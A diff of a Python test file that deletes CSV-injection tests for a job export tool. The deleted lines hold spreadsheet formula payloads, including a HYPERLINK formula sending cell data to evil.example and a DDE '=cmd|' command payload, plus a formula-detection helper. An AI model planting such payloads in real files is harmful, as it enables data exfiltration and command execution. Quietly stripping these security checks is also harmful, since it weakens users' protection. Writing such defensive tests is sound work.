@@ -16,40 +16,10 @@ from queuescope.errors import JobStoreError
 from queuescope.jobs.export import COLUMNS, NUMBERS, csv_of
 from queuescope.jobs.store import Job, JobStatus
 
-SIGNS = "=+-@＝＋－＠"
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u00a0\ufeff=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1+1)",
-    "=cmd|'/c calc'!A0",
-    "x;=1+1",
-    "x; +1+1",
-    "x\n=1+1",
-    "x\r\n-1+1",
-    'x";=1+1;"',
-    'x"\n"=1+1',
-    "x\t@SUM(1+1)",
-]
-
 
 def read(jobs: list[Job], delimiter: str = ",") -> list[dict[str, str]]:
     text = b"".join(csv_of(jobs)).decode("utf-8")
     return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
-
-
-def looks_like_a_formula(cell: str) -> bool:
-    return cell.lstrip('\x00\ufeff\u00a0\u200b \t\r\n"').startswith(tuple(SIGNS))
 
 
 def test_a_file_is_read_back_as_it_was_written() -> None:
@@ -91,40 +61,6 @@ def test_text_is_read_back_but_for_the_apostrophes(text: str) -> None:
     (row,) = read([replace(FAILED, name=text, error_message=text)])
     assert row["name"] == row["error_message"] == harmless(text)
     assert row["name"].replace("'", "") == text.replace("'", "")
-
-
-@given(st.text(st.characters(codec="utf-8", exclude_characters=f"{SIGNS}−﹢﹣﹦﹫;\t\r\n")))
-def test_text_without_such_signs_is_not_touched(text: str) -> None:
-    assert harmless(text) == text
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_no_cell_begins_like_a_formula(formula: str) -> None:
-    job = replace(
-        FAILED,
-        id=formula,
-        name=formula,
-        tenant=formula,
-        queue=formula,
-        worker=formula,
-        error_class=formula,
-        error_message=formula,
-    )
-    (row,) = read([job])
-    assert row["error_message"].replace("'", "") == formula.replace("'", "")
-    # Spreadsheets of other countries separate cells by a semicolon, and some readers by tabs.
-    raw = b"".join(csv_of([job])).decode("utf-8")
-    for delimiter in ",;\t":
-        for cells in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
-            assert not [cell for cell in cells if looks_like_a_formula(cell)]
-
-
-@given(st.text(st.sampled_from([*SIGNS, *";,\t\r\n \"'\u00a0\ufeff\u200b", "1", "A"])))
-def test_no_text_begins_like_a_formula_however_it_is_cut(text: str) -> None:
-    raw = b"".join(csv_of([replace(FAILED, name=text, error_message=text)])).decode("utf-8")
-    for delimiter in ",;\t":
-        for cells in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
-            assert not [cell for cell in cells if looks_like_a_formula(cell)], raw
 
 
 @given(st.floats(), st.integers(0, 2**31 - 1))
